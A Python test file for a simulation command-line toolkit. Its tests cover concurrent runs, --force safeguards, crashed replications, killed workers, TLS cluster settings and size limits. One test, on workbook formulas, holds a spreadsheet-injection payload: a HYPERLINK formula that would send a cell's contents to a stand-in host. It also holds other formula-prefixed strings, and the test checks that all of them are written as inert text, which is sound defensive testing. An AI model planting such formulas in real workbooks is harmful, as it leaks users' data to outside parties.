"""Nothing lost, nobody surprised: each way a careful user broke the toolkit, as a test.

Concurrent runs on one folder, ``--force`` on folders egrid did not write or
that hold the command's input, a crashed replication among good ones, places
that cannot be written, killed processes and their workers and temporaries,
formulas in workbooks, the Dask cluster's door, and runs too long or too big.
Every case must end in a clear message (no traceback) or a correct result.
"""

from __future__ import annotations

import json
import os
import signal
import subprocess
import sys
import time
import zipfile
from pathlib import Path

import pandas as pd
import pytest

import factory
from enforcement_grid.cli.cli import main
from enforcement_grid.sim import load_scenario
from enforcement_grid.sim.errors import ScenarioError
from enforcement_grid.sim.staging import (
    MARKER, TargetChanged, check_target, clean_stale, staged_folder,
)

CLI = [sys.executable, "-m", "enforcement_grid.cli.cli"]


def run_cli(capsys, *argv) -> tuple[int, str]:
    code = main([str(a) for a in argv])
    err = capsys.readouterr().err
    assert "Traceback" not in err
    return code, err


def no_simulation(monkeypatch):
    """Make any simulation fail the test: a check must refuse before the work."""
    from enforcement_grid.experiments import runner  # egrid run imports run from here when it runs

    def refuse(*a, **k):
        raise AssertionError("simulated before checking the target")

    monkeypatch.setattr(runner, "run", refuse)


def hidden(folder: Path) -> list[str]:
    return sorted(p.name for p in folder.iterdir() if p.name.startswith("."))


# --------------------------------------------------------------------------- 1. concurrent runs


def test_a_folder_that_appears_while_a_run_goes_is_not_overwritten(tmp_path, capsys, monkeypatch):
    from enforcement_grid.experiments import runner  # egrid run imports run from here when it runs

    path = factory.scenario(tmp_path / "sc")
    out = tmp_path / "run"
    real = runner.run

    def run_while_another_writes(*a, **k):
        result = real(*a, **k)
        with staged_folder(out, writer="another egrid run") as tmp:  # finishes first
            (tmp / "theirs.txt").write_text("theirs")
        return result

    monkeypatch.setattr(runner, "run", run_while_another_writes)
    code, err = run_cli(capsys, "run", path, "--days", "3", "--out", out, "--workers", "1")
    assert code == 2
    assert "appeared while this command was running" in err
    assert (out / "theirs.txt").read_text() == "theirs"  # the other run is intact
    kept = out.with_name(f"run.conflict-{os.getpid()}")
    assert (kept / "summary.csv").exists() and (kept / MARKER).exists()  # and this one is not lost
    assert hidden(tmp_path) == []


def test_two_runs_started_together_on_one_folder_never_both_claim_it(tmp_path):
    path = factory.scenario(tmp_path / "sc")
    out = tmp_path / "run"
    procs = []
    for seed in (1, 2):
        procs.append(subprocess.Popen([*CLI, "run", str(path), "--days", "5", "--seed", str(seed), "--out", str(out),
                                       "--workers", "1"], stdout=subprocess.PIPE, stderr=subprocess.PIPE, text=True))
        time.sleep(0.5)
    results = [(p.wait(timeout=120), p.stderr.read()) for p in procs]
    codes = sorted(c for c, _ in results)
    assert codes == [0, 2], results
    loser = next(e for c, e in results if c == 2)
    assert "Traceback" not in loser and ("already exists" in loser or "appeared while" in loser)
    meta = json.loads((out / "scenario.json").read_text(encoding="utf-8"))
    winner = next(i for i, (c, _) in enumerate(results) if c == 0)
    assert meta["seed"] == winner + 1


# --------------------------------------------------------------------------- 2. --force


def test_force_never_replaces_the_folder_holding_the_scenario(tmp_path, capsys, monkeypatch):
    no_simulation(monkeypatch)
    path = factory.scenario(tmp_path / "s")
    (tmp_path / "s" / "SOURCES.md").write_text("notes")
    before = sorted(p.name for p in (tmp_path / "s").iterdir())
    code, err = run_cli(capsys, "run", path, "--out", tmp_path / "s", "--force")
    assert code == 2 and "holds this command's own input" in err
    assert sorted(p.name for p in (tmp_path / "s").iterdir()) == before


def test_force_never_replaces_the_run_a_report_reads(small_runs, tmp_path, capsys):
    run_dir = small_runs["after"]
    before = sorted(p.name for p in run_dir.iterdir())
    code, err = run_cli(capsys, "report", run_dir, "--out", run_dir, "--force")
    assert code == 2 and "holds this command's own input" in err
    assert sorted(p.name for p in run_dir.iterdir()) == before


def test_force_never_replaces_a_folder_that_is_not_a_sweep(tmp_path, capsys):
    sc = tmp_path / "sc"
    factory.scenario(sc)
    (sc / "sweep.toml").write_text('scenario = "scenario.toml"\nreplications = 1\ndays = 3\n', encoding="utf-8")
    data = tmp_path / "data"
    data.mkdir()
    (data / "survey.xlsx").write_text("precious")
    code, err = run_cli(capsys, "sweep", sc / "sweep.toml", "--out", data, "--force", "--quiet")
    assert code == 2 and "was not written by egrid" in err
    assert (data / "survey.xlsx").read_text() == "precious"
    code, err = run_cli(capsys, "sweep", sc / "sweep.toml", "--out", sc, "--force", "--quiet")
    assert code == 2 and "own input" in err and (sc / "scenario.toml").exists()


def test_force_never_replaces_the_scenario_folder_with_a_plan(tmp_path, capsys):
    path = factory.scenario(tmp_path / "s")
    code, err = run_cli(capsys, "optimize", "tradeoff", path, "--out", tmp_path / "s", "--force")
    assert code == 2 and "own input" in err and path.exists()


def test_the_current_folder_is_never_an_output(tmp_path, capsys, monkeypatch):
    no_simulation(monkeypatch)
    path = factory.scenario(tmp_path / "sc")
    work = tmp_path / "work"
    work.mkdir()
    (work / MARKER).write_text("{}")  # even a folder egrid once wrote
    monkeypatch.chdir(work)
    code, err = run_cli(capsys, "run", path, "--out", ".", "--force")
    assert code == 2 and "is the current folder" in err and (work / MARKER).exists()


def test_a_comparison_never_overwrites_a_file_it_reads(small_runs, capsys):
    run_dir = small_runs["after"]
    summary = (run_dir / "summary.csv").read_bytes()
    code, err = run_cli(capsys, "compare", small_runs["before"], run_dir, "--out", run_dir / "summary.csv", "--force")
    assert code == 2 and "which this command reads" in err
    assert (run_dir / "summary.csv").read_bytes() == summary


# --------------------------------------------------------------------------- 3. a crashed replication


def _break_replication(monkeypatch, which: set[int]):
    from enforcement_grid.experiments import runner as sim_runner
    from enforcement_grid.sim.calendar import WorkCalendar

    class Broken(sim_runner.Model):
        def run(self):
            if self.replication in which:  # the error a too-long time limit raises, deep in the model
                WorkCalendar((0, 1, 2, 3, 4), 480, 1020).add(0.0, 1e6 * 540)
            return super().run()

    monkeypatch.setattr(sim_runner, "Model", Broken)


def test_one_crashed_replication_keeps_the_others(tmp_path, capsys, monkeypatch):
    _break_replication(monkeypatch, {1})
    path = factory.scenario(tmp_path / "sc")
    out = tmp_path / "run"
    code, err = run_cli(capsys, "run", path, "--days", "3", "-n", "3", "--out", out, "--workers", "1")
    assert code == 1
    assert "tiny replication 1 (seed 7) failed" in err
    assert "decision_working_days" in err and "1,000,000 working days" in err  # the cause in words
    assert "wrote the other 2" in err and "marked incomplete" in err
    meta = json.loads((out / "scenario.json").read_text(encoding="utf-8"))
    assert meta["complete"] is False and meta["failed_replications"] == [1] and meta["replications"] == [0, 2]
    assert sorted(pd.read_csv(out / "replications.csv")["rep"].unique()) == [0, 2]
    errors = pd.read_csv(out / "errors.csv")
    assert errors[["seed", "replication"]].values.tolist() == [[7, 1]]


def test_when_every_replication_crashes_nothing_is_written(tmp_path, capsys, monkeypatch):
    _break_replication(monkeypatch, {0, 1})
    path = factory.scenario(tmp_path / "sc")
    out = tmp_path / "run"
    code, err = run_cli(capsys, "run", path, "--days", "3", "-n", "2", "--out", out, "--workers", "1")
    assert code == 1 and "all 2 replication(s) failed; nothing was written" in err
    assert not out.exists() and hidden(tmp_path) == []


def test_a_calendar_without_working_time_says_so():
    from enforcement_grid.sim.calendar import WorkCalendar

    with pytest.raises(ValueError, match="no working time"):
        WorkCalendar((), 480, 1020).add(0.0, 60.0)


# --------------------------------------------------------------------------- 4. places that cannot be written


def test_an_output_below_a_file_is_refused_before_simulating(tmp_path, capsys, monkeypatch):
    no_simulation(monkeypatch)
    path = factory.scenario(tmp_path / "sc")
    (tmp_path / "file").write_text("x")
    code, err = run_cli(capsys, "run", path, "--out", tmp_path / "file" / "run")
    assert code == 2 and "is a file, not a folder" in err


def test_a_dangling_symlink_is_refused_before_simulating(tmp_path, capsys, monkeypatch):
    no_simulation(monkeypatch)
    path = factory.scenario(tmp_path / "sc")
    (tmp_path / "link").symlink_to(tmp_path / "nowhere")
    code, err = run_cli(capsys, "run", path, "--out", tmp_path / "link")
    assert code == 2 and "symbolic link" in err and "does not exist" in err
    code, err = run_cli(capsys, "run", path, "--out", tmp_path / "link" / "run")
    assert code == 2 and "symbolic link" in err


def test_a_read_only_place_is_refused_before_simulating(tmp_path, capsys, monkeypatch):
    no_simulation(monkeypatch)
    path = factory.scenario(tmp_path / "sc")
    ro = tmp_path / "ro"
    ro.mkdir()
    ro.chmod(0o555)
    try:
        if os.access(ro, os.W_OK):  # root writes anywhere: make the place refuse as a read-only mount would
            from enforcement_grid.sim import staging

            def read_only(*a, **k):
                raise OSError(30, "Read-only file system")

            monkeypatch.setattr(staging.tempfile, "mkdtemp", read_only)
        code, err = run_cli(capsys, "run", path, "--out", ro / "run")
    finally:
        ro.chmod(0o755)
    assert code == 2 and "cannot be written" in err and str(ro) in err


def test_a_write_that_fails_midway_is_a_message_and_leaves_nothing(tmp_path, capsys, monkeypatch):
    path = factory.scenario(tmp_path / "sc")
    out = tmp_path / "run"
    real = pd.DataFrame.to_csv

    def disk_full(self, target=None, *a, **k):
        if str(target).endswith("units.csv"):
            raise OSError(28, "No space left on device", str(target))
        return real(self, target, *a, **k)

    monkeypatch.setattr(pd.DataFrame, "to_csv", disk_full)
    code, err = run_cli(capsys, "run", path, "--days", "3", "--out", out, "--workers", "1")
    assert code == 1 and "No space left on device" in err and "units.csv" in err
    assert not out.exists() and hidden(tmp_path) == []


# --------------------------------------------------------------------------- 5. killed processes


def _children(pid: int) -> list[int]:
    kids = []
    for entry in Path("/proc").iterdir():
        if entry.name.isdigit():
            try:
                fields = (entry / "stat").read_text().rsplit(")", 1)[1].split()
            except OSError:
                continue
            if int(fields[1]) == pid:
                kids.append(int(entry.name))
    return kids


def _alive(pid: int) -> bool:
    try:
        state = Path(f"/proc/{pid}/stat").read_text().rsplit(")", 1)[1].split()[0]
    except (OSError, IndexError):
        return False
    return state != "Z"


def _gone(pids: list[int], within_s: float) -> bool:
    """Whether the processes end within the time; any still alive then are killed (no test leaves them)."""
    deadline = time.monotonic() + within_s
    while time.monotonic() < deadline:
        if not any(_alive(p) for p in pids):
            return True
        time.sleep(0.2)
    for p in pids:
        if _alive(p):
            os.kill(p, signal.SIGKILL)
    return False


def _wait_for_workers(proc, n: int, timeout_s: float = 60.0) -> list[int]:
    deadline = time.monotonic() + timeout_s
    while time.monotonic() < deadline:
        kids = _children(proc.pid)
        if len(kids) >= n:
            time.sleep(1.0)  # let them start their task
            return _children(proc.pid)
        assert proc.poll() is None, proc.communicate()
        time.sleep(0.2)
    raise AssertionError("no worker processes started")


@pytest.mark.skipif(not sys.platform.startswith("linux"), reason="reads /proc")
@pytest.mark.parametrize("how", [signal.SIGKILL, signal.SIGTERM])
def test_workers_end_with_a_killed_run_and_the_next_run_cleans_up(tmp_path, how):
    path = factory.scenario(tmp_path / "sc")
    out = tmp_path / "run"
    proc = subprocess.Popen([*CLI, "run", str(path), "--days", "3000", "-n", "4", "--workers", "2",
                             "--no-records", "--out", str(out)], stdout=subprocess.PIPE, stderr=subprocess.PIPE,
                            text=True, start_new_session=True)
    workers = _wait_for_workers(proc, 2)
    proc.send_signal(how)
    _, err = proc.communicate(timeout=60)
    assert _gone(workers, 10.0), "worker processes outlived their parent"
    if how == signal.SIGTERM:
        assert proc.returncode == 143 and "Traceback" not in err and "terminated" in err
    assert not out.exists()


def test_a_temporary_folder_of_a_killed_process_is_cleaned_up_by_the_next_run(tmp_path, capsys):
    path = factory.scenario(tmp_path / "sc")
    out = tmp_path / "run"
    dead = subprocess.Popen([sys.executable, "-c", "pass"])
    dead.wait()
    note = json.dumps({"pid": dead.pid, "host": os.uname().nodename, "started": 0})
    stale = tmp_path / ".run.egrid-tmp-dead"
    stale.mkdir()
    (stale / ".egrid-staging").write_text(note)
    (stale / "summary.csv").write_text("half")
    live = tmp_path / ".run.egrid-tmp-live"
    live.mkdir()
    (live / ".egrid-staging").write_text(json.dumps({"pid": os.getpid(), "host": os.uname().nodename}))
    code, _ = run_cli(capsys, "run", path, "--days", "3", "--out", out, "--workers", "1")
    assert code == 0 and not stale.exists() and live.exists()  # a live process's folder is left alone


def test_an_old_folder_set_aside_by_a_killed_process_is_put_back(tmp_path):
    dead = subprocess.Popen([sys.executable, "-c", "pass"])
    dead.wait()
    aside = tmp_path / ".run.egrid-old-x"
    (aside / "run").mkdir(parents=True)
    (aside / "run" / "summary.csv").write_text("the old run")
    (aside / ".egrid-staging").write_text(json.dumps({"pid": dead.pid, "host": os.uname().nodename}))
    clean_stale(tmp_path / "run")
    assert (tmp_path / "run" / "summary.csv").read_text() == "the old run" and not aside.exists()


@pytest.mark.skipif(not sys.platform.startswith("linux"), reason="reads /proc")
def test_a_terminated_sweep_saves_what_finished_and_resumes(tmp_path):
    sc = tmp_path / "sc"
    factory.scenario(sc)
    sweep = sc / "sweep.toml"
    sweep.write_text('scenario = "scenario.toml"\nreplications = 40\ndays = 60\n', encoding="utf-8")
    out = tmp_path / "out"
    proc = subprocess.Popen([*CLI, "sweep", str(sweep), "--out", str(out), "--workers", "2", "--quiet"],
                            stdout=subprocess.PIPE, stderr=subprocess.PIPE, text=True)
    workers = _wait_for_workers(proc, 2)
    deadline = time.monotonic() + 60
    while not list((out / "reps").glob("*/rep-*.csv")) and time.monotonic() < deadline:
        time.sleep(0.2)
    proc.send_signal(signal.SIGTERM)
    _, err = proc.communicate(timeout=60)
    assert proc.returncode == 143 and "again to resume" in err and "Traceback" not in err
    assert _gone(workers, 10.0)


# --------------------------------------------------------------------------- 6. formulas in workbooks


def test_text_in_a_report_workbook_never_becomes_a_formula(tmp_path):
    from openpyxl import load_workbook

    from enforcement_grid.report.excel import write_workbook

    summary = pd.DataFrame({"scope": ["county", "甲镇"], "metric": ["coverage", "coverage"],
                            "mean": [0.5, 0.6], "ci_low": [0.4, 0.5], "ci_high": [0.6, 0.7]})
    leak = '=HYPERLINK("http://example.invalid/?leak="&B2, "click")'
    assumptions = pd.DataFrame({"section": ["scenario", "+cmd"], "key": ["@SUM(A1)", "-2+3"],
                                "value": [leak, "\t=1"], "source": ["\r=1", "plain"], "line": [1, 2]})
    path = write_workbook(tmp_path / "report.xlsx", "en", summary, assumptions, town_en={"甲镇": "=1+2"})
    with zipfile.ZipFile(path) as z:
        sheets = [n for n in z.namelist() if n.startswith("xl/worksheets/sheet")]
        assert sheets and not any("<f>" in z.read(n).decode("utf-8") for n in sheets)
    wb = load_workbook(path)
    cells = {c.value: c for ws in wb for row in ws.iter_rows() for c in row if isinstance(c.value, str)}
    for text in (leak, "=1+2", "@SUM(A1)", "-2+3", "+cmd", "\t=1", "\r=1"):
        # a CR reads back as CR (escaped _x000D_) or as LF (bare in the XML), by openpyxl version
        hit = [v for v in cells if text in v or text.replace("\r", "\n") in v]
        assert hit, text
        assert all(cells[v].data_type == "s" and cells[v].quotePrefix for v in hit), text  # shown as typed, as text
    assert not cells["plain"].quotePrefix


# --------------------------------------------------------------------------- 7. the cluster's door


def test_the_help_says_plain_tcp_is_unauthenticated(capsys):
    for command in ("run", "sweep"):
        with pytest.raises(SystemExit):
            main([command, "--help"])
        text = " ".join(capsys.readouterr().out.split())
        assert "unauthenticated" in text and "--security" in text and "private interface" in text


def test_a_plain_tcp_scheduler_gets_a_warning():
    from enforcement_grid.experiments.executors import plain_tcp_warning

    assert "unauthenticated" in plain_tcp_warning("tcp://10.0.0.5:8786")
    assert plain_tcp_warning("tcp://127.0.0.1:8786") is None and plain_tcp_warning("tls://10.0.0.5:8786") is None


def test_security_options_are_checked(tmp_path, capsys):
    from enforcement_grid.experiments.executors import load_security

    path = factory.scenario(tmp_path / "sc")
    code, err = run_cli(capsys, "run", path, "--days", "3", "--security", tmp_path / "tls.toml")
    assert code == 2 and "--security: only with --scheduler" in err
    (tmp_path / "ca.pem").write_text("x")
    (tmp_path / "tls.toml").write_text('ca_file = "ca.pem"\ncert = "client.pem"\nkeyfile = "k.pem"\n')
    with pytest.raises(ScenarioError) as err:
        load_security(tmp_path / "tls.toml")
    text = "\n".join(err.value.problems)
    assert "keyfile: unknown key" in text and "cert: file" in text and "not found" in text
    (tmp_path / "client.pem").write_text("x")
    (tmp_path / "tls.toml").write_text('ca_file = "ca.pem"\ncert = "client.pem"\n')
    security = load_security(tmp_path / "tls.toml")
    assert security.require_encryption and security.tls_ca_file == str((tmp_path / "ca.pem").resolve())
    code, err = run_cli(capsys, "run", path, "--days", "3", "--scheduler", "tcp://127.0.0.1:9",
                        "--security", tmp_path / "tls.toml")
    assert code == 2 and "must start with tls://" in err
    code, err = run_cli(capsys, "run", path, "--days", "3", "--scheduler", "tls://127.0.0.1:9")
    assert code == 2 and "a tls:// scheduler needs certificates" in err


def _certificate(folder: Path) -> Path | None:
    """A self-signed certificate and key (one file) for every node of a test cluster, or None without openssl."""
    pem = folder / "node.pem"
    try:
        subprocess.run(["openssl", "req", "-x509", "-newkey", "rsa:2048", "-nodes", "-days", "1", "-subj",
                        "/CN=localhost", "-keyout", str(folder / "key.pem"), "-out", str(folder / "cert.pem")],
                       check=True, capture_output=True, timeout=60)
    except (OSError, subprocess.SubprocessError):
        return None
    pem.write_text((folder / "cert.pem").read_text() + (folder / "key.pem").read_text())
    return pem


def test_replications_run_on_a_tls_cluster_with_the_same_numbers(tmp_path):
    pem = _certificate(tmp_path)
    if pem is None:
        pytest.skip("openssl not available to make a test certificate")
    from distributed import LocalCluster
    from distributed.security import Security

    from enforcement_grid.experiments import run
    from enforcement_grid.experiments.executors import make_executor

    (tmp_path / "tls.toml").write_text(f'ca_file = "{pem.name}"\ncert = "{pem.name}"\n')
    node = Security(tls_ca_file=str(pem), tls_scheduler_cert=str(pem), tls_worker_cert=str(pem),
                    tls_client_cert=str(pem), require_encryption=True)
    sc = load_scenario(factory.scenario(tmp_path / "sc"), ["scenario.horizon_days=3"])
    with LocalCluster(n_workers=1, threads_per_worker=1, processes=False, protocol="tls://", security=node,
                      dashboard_address=None) as cluster:
        assert cluster.scheduler_address.startswith("tls://")
        with make_executor(scheduler=cluster.scheduler_address, security=tmp_path / "tls.toml") as executor:
            on_tls = run(sc, 2, executor=executor, keep_records=False)
    here = run(sc, 2, workers=1, keep_records=False)
    pd.testing.assert_frame_equal(on_tls.metrics, here.metrics)


# --------------------------------------------------------------------------- 8. bounds


@pytest.mark.parametrize("days", ["1e9", "1e308", "36501"])
def test_a_run_longer_than_a_hundred_years_is_refused_at_the_option(tmp_path, capsys, days):
    path = factory.scenario(tmp_path / "sc")
    with pytest.raises(SystemExit) as stop:
        main(["run", str(path), "--days", days])
    err = capsys.readouterr().err
    assert stop.value.code == 2 and "at most 36,500" in err and "Traceback" not in err


def test_a_run_longer_than_a_hundred_years_is_refused_from_the_file(tmp_path, capsys, monkeypatch):
    no_simulation(monkeypatch)
    path = factory.scenario(tmp_path / "sc")
    code, err = run_cli(capsys, "run", path, "--set", "scenario.horizon_days=1e9")
    assert code == 2 and "scenario.horizon_days" in err and "36,500" in err


def test_a_run_that_would_create_too_many_violations_is_refused_before_it_starts(tmp_path, capsys, monkeypatch):
    no_simulation(monkeypatch)

    def flood(settings, tables):
        tables["items"][1]["annual_rate"] = 1e9

    path = factory.scenario(tmp_path / "sc", flood)
    started = time.perf_counter()
    code, err = run_cli(capsys, "run", path, "--days", "30")
    assert code == 2 and time.perf_counter() - started < 5
    assert "items.csv: item B-1: annual_rate = 1e+09" in err and "--max-violations" in err


def test_the_violation_limit_can_be_lowered_and_raised(tmp_path, capsys):
    from enforcement_grid.sim.size import expected_violations

    path = factory.scenario(tmp_path / "sc")
    sc = load_scenario(path, ["scenario.horizon_days=3"])
    total, _ = expected_violations(sc)
    assert total > 1
    code, err = run_cli(capsys, "run", path, "--days", "3", "--max-violations", "1", "--out", tmp_path / "r")
    assert code == 2 and "--max-violations" in err and not (tmp_path / "r").exists()
    code, _ = run_cli(capsys, "run", path, "--days", "3", "--max-violations", str(int(total) + 10),
                      "--out", tmp_path / "r", "--workers", "1")
    assert code == 0


def test_the_violation_estimate_matches_what_a_run_creates(tmp_path):
    """The estimate is the expected count: a run's count lies within its 99.9 % Poisson interval
    (normal approximation, z = 3.29) around it."""
    from enforcement_grid.experiments import run
    from enforcement_grid.sim.size import expected_violations

    sc = load_scenario(factory.scenario(tmp_path / "sc"), ["scenario.horizon_days=60"])
    total, _ = expected_violations(sc)
    runset = run(sc, 2, workers=1)
    for r in runset.results:
        n = len(r.records)
        assert abs(n - total) <= 3.29 * total ** 0.5, (n, total)


def test_a_sweep_point_with_too_many_violations_is_refused(tmp_path, capsys):
    sc = tmp_path / "sc"
    factory.scenario(sc)
    sweep = sc / "sweep.toml"
    sweep.write_text('scenario = "scenario.toml"\nreplications = 1\ndays = 3\n[[factor]]\nname = "d"\n'
                     'set = "scenario.horizon_days"\nvalues = [3.0, 30000.0]\n', encoding="utf-8")
    code, err = run_cli(capsys, "sweep", sweep, "--out", tmp_path / "out", "--quiet", "--max-violations", "5000")
    assert code == 2 and "point d-30000.0" in err and "--max-violations" in err
    assert not (tmp_path / "out").exists()


# --------------------------------------------------------------------------- the staged folder itself


def test_a_staged_folder_is_marked_and_refuses_what_it_must(tmp_path):
    out = tmp_path / "out"
    with staged_folder(out, writer="test") as tmp:
        (tmp / "a.txt").write_text("a")
    marker = json.loads((out / MARKER).read_text(encoding="utf-8"))
    assert marker["written_by"] == "test" and (out / "a.txt").exists()
    with pytest.raises(ScenarioError, match="already exists"):
        check_target(out, False)
    state = check_target(out, True)
    with staged_folder(out, writer="test", force=True, state=state) as tmp:
        (tmp / "b.txt").write_text("b")
    assert (out / "b.txt").exists() and not (out / "a.txt").exists()
    with pytest.raises(KeyboardInterrupt):
        with staged_folder(out, writer="test", force=True) as tmp:
            raise KeyboardInterrupt
    assert (out / "b.txt").exists() and hidden(tmp_path) == []


def test_a_foreign_folder_that_appears_is_never_replaced_even_with_force(tmp_path):
    out = tmp_path / "out"
    state = check_target(out, True)
    with pytest.raises(TargetChanged) as err:
        with staged_folder(out, writer="test", force=True, state=state) as tmp:
            (tmp / "ours.txt").write_text("ours")
            out.mkdir()
            (out / "theirs.txt").write_text("theirs")
    assert "even --force leaves it alone" in str(err.value)
    assert (out / "theirs.txt").exists() and (err.value.kept / "ours.txt").exists()


def test_the_fast_table_reader_reads_replication_files_exactly(tmp_path):
    from enforcement_grid.experiments.output import write_frame_atomic
    from enforcement_grid.experiments.sweep import read_rep, read_reps

    frames = {
        0: pd.DataFrame({"scope": ["county", "NA", "a,b", "甲镇"], "metric": ["m", "m", "m", "n"],
                         "value": [0.1 + 0.2, float("nan"), float("inf"), 5e-324]}),
        3: pd.DataFrame({"scope": ["county", "NA", "a,b", "甲镇"], "metric": ["m", "m", "m", "n"],
                         "value": [1 / 3, -0.0, -float("inf"), 1e308]}),
    }
    files = []
    for k, df in frames.items():
        write_frame_atomic(df, tmp_path / f"rep-{k}.csv")
        files.append((k, tmp_path / f"rep-{k}.csv"))
    fast = read_reps(files).to_pandas().astype({"scope": str, "metric": str})  # read by code, the same text
    slow = pd.concat([read_rep(f).assign(rep=k) for k, f in files], ignore_index=True)[fast.columns]
    pd.testing.assert_frame_equal(fast, slow.astype({"rep": "int64"}), check_exact=True)
